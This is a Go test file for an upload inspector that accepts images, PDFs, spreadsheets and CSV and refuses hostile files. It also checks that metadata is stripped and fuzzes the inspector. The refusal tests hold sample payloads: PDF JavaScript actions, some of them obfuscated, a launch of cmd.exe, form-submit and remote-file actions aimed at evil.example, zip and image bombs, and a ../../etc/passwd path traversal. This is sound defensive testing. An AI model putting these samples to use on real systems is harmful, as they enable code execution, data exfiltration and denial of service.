package document

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"image"
	"image/color"
	"strings"
	"testing"
	"time"

	"github.com/esteira/esteira/schemas/fault"
)

// tooLong is no figure: it tells work that ends from work that an attacker can make endless.
const tooLong = 30 * time.Second

func TestWhatIsTaken(t *testing.T) {
	for name, tc := range map[string]struct {
		content []byte
		rules   Rules
		mime    string
	}{
		"jpg":                      {makeJPEG(t, 60, 40), Rules{}, "image/jpeg"},
		"png":                      {makePNG(t, 60, 40), Rules{}, "image/png"},
		"pdf":                      {makePDF(2, ""), Rules{}, "application/pdf"},
		"photo":                    {makeJPEG(t, 60, 40), Rules{Image: true}, "image/jpeg"},
		"xlsx":                     {makeXLSX(t), Rules{Accept: []string{"xlsx"}}, kinds["xlsx"].mime},
		"csv":                      {[]byte("nome;valor\nJosé;10,5\n"), Rules{Accept: []string{"csv"}}, "text/csv"},
		"latin csv":                {[]byte("nome;valor\nJos\xE9;10,5\n"), Rules{Accept: []string{"csv"}}, "text/csv"},
		"webp":                     {tinyWebP(), Rules{Accept: []string{"webp"}}, "image/webp"},
		"small ok":                 {makeJPEG(t, 60, 40), Rules{MinShortSide: 40}, "image/jpeg"},
		"20 pages":                 {makePDF(20, ""), Rules{}, "application/pdf"},
		"unknown type in settings": {makeJPEG(t, 60, 40), Rules{Accept: []string{"heic", "jpg"}}, "image/jpeg"},
	} {
		t.Run(name, func(t *testing.T) {
			file, err := Inspect(tc.content, tc.rules)
			if err != nil {
				t.Fatal(err)
			}
			sum := sha256.Sum256(tc.content)
			if file.MIME != tc.mime || file.SHA256 != hex.EncodeToString(sum[:]) || len(file.Content) == 0 {
				t.Errorf("%s %s %d", file.MIME, file.SHA256, len(file.Content))
			}
			if strings.HasPrefix(tc.mime, "image/") && name != "webp" && (file.Width != 60 || file.Height != 40) {
				t.Errorf("%d x %d", file.Width, file.Height)
			}
		})
	}
}

func TestWhatIsRefused(t *testing.T) {
	jpg, pdf := makeJPEG(t, 60, 40), makePDF(1, "")
	office := Rules{Accept: []string{"xlsx", "docx"}}
	for name, tc := range map[string]struct {
		content []byte
		rules   Rules
		code    fault.Code
		key     string
	}{
		"nothing":                {nil, Rules{}, fault.Invalid, "file_empty"},
		"too large":              {jpg, Rules{MaxBytes: 100}, fault.TooLarge, "file_size"},
		"11 MB":                  {make([]byte, 11*megabyte), Rules{}, fault.TooLarge, "file_size"},
		"svg as jpg":             {[]byte(`<svg xmlns='x'><script>alert(1)</script></svg>`), Rules{}, fault.Unsupported, "file_type"},
		"html":                   {[]byte("<html><body>hi</body></html>"), Rules{}, fault.Unsupported, "file_type"},
		"html as csv":            {[]byte("a;b\n<script>alert(1)</script>"), Rules{Accept: []string{"csv"}}, fault.Unsupported, "file_type"},
		"program":                {append([]byte("MZ\x90\x00"), make([]byte, 500)...), Rules{}, fault.Unsupported, "file_type"},
		"gif":                    {[]byte("GIF89a" + strings.Repeat("\x00", 60)), Rules{}, fault.Unsupported, "file_type"},
		"heic":                   {[]byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"), Rules{Accept: []string{"heic"}}, fault.Unsupported, "file_heic"},
		"pdf for a photo":        {pdf, Rules{Image: true}, fault.Unsupported, "file_type"},
		"xlsx unasked":           {makeXLSX(t), Rules{}, fault.Unsupported, "file_type"},
		"zip as xlsx":            {makeZip(t, entry{"a.txt", []byte("a")}), office, fault.Unsupported, "file_type"},
		"jpg cut":                {jpg[:len(jpg)/2], Rules{}, fault.Invalid, "file_broken"},
		"jpg head only":          {[]byte("\xFF\xD8\xFF\xE0\x00\x10JFIF"), Rules{}, fault.Invalid, "file_broken"},
		"png cut":                {makePNG(t, 60, 40)[:200], Rules{}, fault.Invalid, "file_broken"},
		"png changed":            {flipped(makePNG(t, 60, 40), 100), Rules{}, fault.Invalid, "file_broken"},
		"png bomb":               {pngOf(50_000, 50_000), Rules{}, fault.Invalid, "file_bomb"},
		"jpg bomb":               {jpegOf(jpg, 60_000, 60_000), Rules{}, fault.Invalid, "file_bomb"},
		"small":                  {jpg, Rules{MinShortSide: 41}, fault.Invalid, "image_small"},
		"pdf cut":                {pdf[:len(pdf)-10], Rules{}, fault.Invalid, "file_broken"},
		"pdf locked":             {bytes.Replace(pdf, []byte("/Size 1"), []byte("/Size 1/Encrypt 9 0 R"), 1), Rules{}, fault.Invalid, "file_encrypted"},
		"pdf script":             {makePDF(1, "/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), Rules{}, fault.Invalid, "file_active"},
		"pdf script in disguise": {makePDF(1, "/OpenAction<</S/J#61va#53cript/J#53 9 0 R>>"), Rules{}, fault.Invalid, "file_active"},
		"pdf short script":       {makePDF(1, "/AA<</O<</JS(1)>>>>"), Rules{}, fault.Invalid, "file_active"},
		"pdf script packed":      {makePDF(1, "", objectStream("7 0 <</S/JavaScript/JS(x)>>")), Rules{}, fault.Invalid, "file_active"},
		"pdf script hidden":      {makePDF(1, "", strings.Replace(objectStream("7 0 <</S/JavaScript/JS(x)>>"), "/Type/ObjStm", "/Type/Other", 1)), Rules{}, fault.Invalid, "file_active"},
		"pdf packed oddly":       {makePDF(1, "", "<</Type/ObjStm/Filter/ASCIIHexDecode>>\nstream\n37203020\nendstream"), Rules{}, fault.Invalid, "file_broken"},
		"pdf launches":           {makePDF(1, "/OpenAction<</S/Launch/F(cmd.exe)>>"), Rules{}, fault.Invalid, "file_active"},
		"pdf opens elsewhere":    {makePDF(1, `/OpenAction<</S/GoToR/F(\\\\evil.example\\share\\x.pdf)>>`), Rules{}, fault.Invalid, "file_active"},
		"pdf sends itself":       {makePDF(1, "/OpenAction<</S/SubmitForm/F(http://evil.example)>>"), Rules{}, fault.Invalid, "file_active"},
		"pdf with a file":        {makePDF(1, "", "<</Type/EmbeddedFile/Length 0>>"), Rules{}, fault.Invalid, "file_active"},
		"pdf form with script":   {makePDF(1, "/AcroForm<</XFA 9 0 R>>"), Rules{}, fault.Invalid, "file_active"},
		"pdf bomb":               {makePDF(1, "", objectStream("7 0 "+strings.Repeat("0 ", maxObjects/2))), Rules{}, fault.Invalid, "file_bomb"},
		"21 pages":               {makePDF(21, ""), Rules{}, fault.TooLarge, "file_pages"},
		"zip bomb":               {makeXLSX(t, entry{"xl/a.xml", make([]byte, 20*megabyte)}), office, fault.Invalid, "file_bomb"},
		"zip in zip":             {makeXLSX(t, entry{"xl/media/a.bin", makeZip(t, entry{"a", nil})}), office, fault.Invalid, "file_bomb"},
		"10000 entries":          {makeXLSX(t, many(10_000)...), office, fault.Invalid, "file_bomb"},
		"macros":                 {makeXLSX(t, entry{"xl/vbaProject.bin", []byte("x")}), office, fault.Invalid, "file_active"},
		"path out":               {makeXLSX(t, entry{"../../etc/passwd", []byte("x")}), office, fault.Invalid, "file_broken"},
		"zip with a false size":  {lying(t), office, fault.Invalid, "file_broken"},
	} {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			_, err := Inspect(tc.content, tc.rules)
			f, ok := errors.AsType[*fault.Fault](err)
			if !ok || f.Code != tc.code || f.Key != tc.key {
				t.Errorf("%v, want %s %s", err, tc.code, tc.key)
			}
			if took := time.Since(start); took > tooLong {
				t.Errorf("took %v", took)
			}
		})
	}
}

func TestFaultsSayHowMuch(t *testing.T) {
	_, err := Inspect(make([]byte, 6*megabyte), Rules{MaxBytes: 5 * megabyte})
	if f, _ := errors.AsType[*fault.Fault](err); f == nil || f.Params["n"] != 5.0 {
		t.Errorf("%+v", f)
	}
	_, err = Inspect([]byte("GIF89a..........."), Rules{Image: true})
	if f, _ := errors.AsType[*fault.Fault](err); f == nil || fmt.Sprint(f.Params["types"]) != "[JPG PNG]" {
		t.Errorf("%+v", f)
	}
}

func TestJPEGLosesWhatIsSaidAboutIt(t *testing.T) {
	plain := makeJPEG(t, 60, 40)
	icc := segment(0xE2, "ICC_PROFILE\x00\x01\x01profile")
	secrets := [][]byte{
		segment(0xE1, "Exif\x00\x00"+string(exif(1))), segment(0xE1, "http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta/>"),
		segment(0xED, "Photoshop 3.0\x00"), segment(0xFE, "<script>alert(1)</script>"), segment(0xE2, "MPF\x00"), segment(0xEF, "x"),
	}
	dirty := append(withSegments(plain, append(secrets, icc)...), "<html><script>alert(1)</script></html>"...)
	file, err := Inspect(dirty, Rules{})
	if err != nil {
		t.Fatal(err)
	}
	if want := withSegments(plain, icc); !bytes.Equal(file.Content, want) {
		t.Errorf("%d bytes, want %d", len(file.Content), len(want))
	}
}

func TestPhotographsAreTurned(t *testing.T) {
	plain := makeJPEG(t, 64, 32)
	// Where the red quarter stands after turning: right, lower.
	for orientation, want := range map[int][2]bool{
		1: {false, false}, 2: {true, false}, 3: {true, true}, 4: {false, true},
		5: {false, false}, 6: {true, false}, 7: {true, true}, 8: {false, true},
	} {
		file, err := Inspect(withSegments(plain, segment(0xE1, "Exif\x00\x00"+string(exif(orientation)))), Rules{})
		if err != nil {
			t.Fatal(err)
		}
		checkTurned(t, orientation, file, want)
		png, err := Inspect(withChunks(makePNG(t, 64, 32), pngChunk("eXIf", exif(orientation))), Rules{})
		if err != nil {
			t.Fatal(err)
		}
		checkTurned(t, orientation, png, want)
	}
}

func checkTurned(t *testing.T, orientation int, file File, want [2]bool) {
	t.Helper()
	w, h := 64, 32
	if orientation > 4 {
		w, h = h, w
	}
	m, _, err := image.Decode(bytes.NewReader(file.Content))
	if err != nil || file.Width != w || file.Height != h || m.Bounds().Dx() != w {
		t.Fatalf("orientation %d: %d x %d, %v", orientation, file.Width, file.Height, err)
	}
	if bytes.Contains(file.Content, []byte("GPS")) {
		t.Errorf("orientation %d: the place is still there", orientation)
	}
	x, y := w/4, h/4
	if want[0] {
		x += w / 2
	}
	if want[1] {
		y += h / 2
	}
	if r, g, _, _ := m.At(x, y).RGBA(); r < 0xC000 || g > 0x4000 {
		t.Errorf("orientation %d: %v at %d,%d", orientation, color.RGBAModel.Convert(m.At(x, y)), x, y)
	}
}

func TestPNGLosesTexts(t *testing.T) {
	plain := makePNG(t, 60, 40)
	dirty := withChunks(plain, pngChunk("tEXt", []byte("Comment\x00<script>")), pngChunk("zTXt", []byte("a\x00\x00x")),
		pngChunk("iTXt", []byte("XML:com.adobe.xmp\x00")), pngChunk("eXIf", exif(1)), pngChunk("tIME", make([]byte, 7)))
	file, err := Inspect(append(dirty, "<html>"...), Rules{})
	if err != nil || !bytes.Equal(file.Content, plain) {
		t.Errorf("%d bytes, want %d, %v", len(file.Content), len(plain), err)
	}
}

func TestWebPLosesMetadata(t *testing.T) {
	plain := tinyWebP()
	vp8x := []byte("VP8X\x0A\x00\x00\x00\x0C\x00\x00\x00\x00\x00\x00\x00\x00\x00")
	dirty := append(append([]byte{}, plain[:12]...), vp8x...)
	dirty = append(append(dirty, plain[12:]...), "EXIF\x04\x00\x00\x00GPS!"...)
	dirty[4] = byte(len(dirty) - 8)
	file, err := Inspect(append(dirty, "<html>"...), Rules{Accept: []string{"webp"}})
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(file.Content, []byte("GPS")) || file.Content[20] != 0 || int(file.Content[4]) != len(file.Content)-8 {
		t.Errorf("%q", file.Content)
	}
}

func TestPDFIsKeptUpToItsEnd(t *testing.T) {
	pdf := makePDF(1, "")
	file, err := Inspect(append(append([]byte{}, pdf...), makeZip(t, entry{"a", []byte("a")})...), Rules{})
	if err != nil || !bytes.Equal(bytes.TrimSpace(file.Content), bytes.TrimSpace(pdf)) {
		t.Errorf("%d bytes, want %d, %v", len(file.Content), len(pdf), err)
	}
}

// Words that run elsewhere are harmless as text of a page, and a page count that an outline declares is none.
func TestHarmlessPDF(t *testing.T) {
	page := "<</Length 9/Filter/FlateDecode>>\nstream\n/JS /XFA " + packed("BT (/JavaScript) Tj ET") + "\nendstream"
	for _, pdf := range [][]byte{
		makePDF(1, "", page), makePDF(3, "/OpenAction[3 0 R/Fit]", "<</Type/Outlines/Count 400>>"),
		makePDF(1, "", objectStream("7 0 <</Type/Font/Count 3>>")),
	} {
		if _, err := Inspect(pdf, Rules{}); err != nil {
			t.Error(err)
		}
	}
}

// What is cheap to send must be cheap to refuse.
func TestHostileFilesAreQuick(t *testing.T) {
	const size = 2 * megabyte
	fill := func(unit string) []byte {
		pdf := append([]byte("%PDF-1.7\nstream"), strings.Repeat(unit, size/len(unit))...)
		return append(pdf, "%%EOF"...)
	}
	for _, unit := range []string{"/JS", "/", "stream", "stream\x78\x9c", "endstream", "/ObjStm", "/Count 1", "/#4a", "\n"} {
		start := time.Now()
		_, _ = Inspect(fill(unit), Rules{})
		if took := time.Since(start); took > tooLong {
			t.Errorf("%q: %v", unit, took)
		}
	}
	dots := append(makeJPEG(t, 8, 8)[:20], bytes.Repeat([]byte("\xFF"), size)...)
	start := time.Now()
	_, _ = Inspect(dots, Rules{})
	if took := time.Since(start); took > tooLong {
		t.Errorf("jpg: %v", took)
	}
}

func FuzzInspect(f *testing.F) {
	for _, seed := range [][]byte{
		makeJPEG(f, 16, 8), makePNG(f, 16, 8), makePDF(1, "", objectStream("7 0 x")), makeXLSX(f), tinyWebP(), []byte("a;b\n"),
		withSegments(makeJPEG(f, 16, 8), segment(0xE1, "Exif\x00\x00"+string(exif(6)))),
		withChunks(makePNG(f, 16, 8), pngChunk("eXIf", exif(8))),
	} {
		f.Add(seed)
	}
	all := Rules{Accept: []string{"jpg", "png", "pdf", "webp", "xlsx", "docx", "csv"}}
	f.Fuzz(func(t *testing.T, content []byte) {
		before := bytes.Clone(content)
		file, err := Inspect(content, all)
		if !bytes.Equal(content, before) {
			t.Fatal("the content was changed")
		}
		if err != nil {
			if fault.CodeOf(err) == "" {
				t.Fatalf("%v is no fault", err)
			}
			return
		}
		// What is kept is taken again, and nothing more is found in it.
		again, err := Inspect(file.Content, all)
		if err != nil || again.MIME != file.MIME || !bytes.Equal(again.Content, file.Content) {
			t.Fatalf("not stable: %v", err)
		}
	})
}

func BenchmarkJPEG(b *testing.B) {
	content := makeJPEG(b, 640, 480)
	b.SetBytes(int64(len(content)))
	for b.Loop() {
		if _, err := Inspect(content, Rules{}); err != nil {
			b.Fatal(err)
		}
	}
}

func many(n int) []entry {
	entries := make([]entry, n)
	for i := range entries {
		entries[i].name = fmt.Sprintf("xl/%d.xml", i)
	}
	return entries
}

func flipped(content []byte, at int) []byte {
	content[at] ^= 0xFF
	return content
}

// pngOf has a header that claims a size, and nothing else.
func pngOf(w, h int) []byte {
	header := []byte{byte(w >> 24), byte(w >> 16), byte(w >> 8), byte(w), byte(h >> 24), byte(h >> 16), byte(h >> 8), byte(h), 8, 2, 0, 0, 0}
	return append(append([]byte(pngMagic), pngChunk("IHDR", header)...), pngChunk("IEND", nil)...)
}

// jpegOf changes the size that a JPEG claims.
func jpegOf(content []byte, w, h int) []byte {
	out := bytes.Clone(content)
	at := bytes.Index(out, []byte{0xFF, 0xC0}) + 5
	copy(out[at:], []byte{byte(h >> 8), byte(h), byte(w >> 8), byte(w)})
	return out
}

// tinyWebP is a lossless image of 1 x 1.
func tinyWebP() []byte {
	return []byte("RIFF\x1A\x00\x00\x00WEBPVP8L\x0D\x00\x00\x00\x2F\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xFE\x07\x00")
}

// lying is an archive whose directory says less than what is packed.
func lying(t testing.TB) []byte {
	t.Helper()
	content := makeXLSX(t, entry{"xl/a.xml", bytes.Repeat([]byte("ab"), 5000)})
	at := bytes.LastIndex(content, []byte("xl/a.xml")) - 46 + 24
	copy(content[at:], []byte{10, 0, 0, 0})
	return content
}
